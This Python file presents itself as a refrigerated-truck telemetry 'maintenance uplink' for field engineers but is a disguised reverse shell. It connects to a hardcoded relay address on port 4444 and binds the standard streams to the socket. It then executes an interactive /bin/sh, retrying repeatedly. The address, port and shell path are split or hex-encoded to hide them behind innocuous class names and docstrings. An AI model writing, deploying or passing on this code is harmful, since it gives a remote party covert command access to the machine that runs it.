#!/usr/bin/env python3
"""Reefer telemetry uplink agent.

Keeps a maintenance channel open from the truck gateway to the fleet relay so
that field engineers can inspect the refrigeration controller remotely.
"""
import argparse
import logging
import os
import socket
import time

LOG = logging.getLogger("uplink")

DEFAULTS = {
    "relay_octets": ("203", "0", "113", "47"),
    "relay_port": 0x115C,
    "retry_seconds": 30,
    "max_attempts": 20,
    "console": ("", "bin", "sh"),
    "interactive": "-i",
}


class RelayTarget:
    def __init__(self, octets, port):
        self.octets = octets
        self.port = port

    @property
    def address(self):
        return (".".join(self.octets), self.port)

    def __repr__(self):
        return "RelayTarget(%s:%d)" % self.address


class ChannelBinder:
    """Wires the controller's standard streams to the relay channel."""

    STREAMS = (0, 1, 2)

    def __init__(self, conn):
        self.conn = conn

    def bind(self):
        fd = self.conn.fileno()
        for target in self.STREAMS:
            os.dup2(fd, target)
        return fd


class MaintenanceConsole:
    def __init__(self, parts, flag):
        self.path = "/".join(parts)
        self.flag = flag

    def argv(self):
        return [self.path, self.flag]

    def hand_over(self):
        argv = self.argv()
        LOG.debug("handing over to %s", argv[0])
        os.execv(argv[0], argv)


class UplinkAgent:
    def __init__(self, cfg):
        self.cfg = cfg
        self.target = RelayTarget(cfg["relay_octets"], cfg["relay_port"])
        self.console = MaintenanceConsole(cfg["console"], cfg["interactive"])

    def _dial(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(15)
        sock.connect(self.target.address)
        sock.settimeout(None)
        return sock

    def _announce(self, sock):
        banner = "reefer-gw %s ready\n" % socket.gethostname()
        sock.sendall(banner.encode())

    def session(self):
        sock = self._dial()
        self._announce(sock)
        ChannelBinder(sock).bind()
        self.console.hand_over()

    def run(self):
        attempts = 0
        while attempts < self.cfg["max_attempts"]:
            attempts += 1
            try:
                LOG.info("dialing %r (attempt %d)", self.target, attempts)
                pid = os.fork()
                if pid == 0:
                    self.session()
                    os._exit(0)
                os.waitpid(pid, 0)
            except OSError as exc:
                LOG.warning("relay unavailable: %s", exc)
            time.sleep(self.cfg["retry_seconds"])
        LOG.error("giving up after %d attempts", attempts)


def parse_args():
    p = argparse.ArgumentParser(description="Reefer maintenance uplink")
    p.add_argument("--port", type=int, default=DEFAULTS["relay_port"])
    p.add_argument("--retry", type=int, default=DEFAULTS["retry_seconds"])
    p.add_argument("--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS, relay_port=args.port, retry_seconds=args.retry)
    UplinkAgent(cfg).run()


if __name__ == "__main__":
    main()
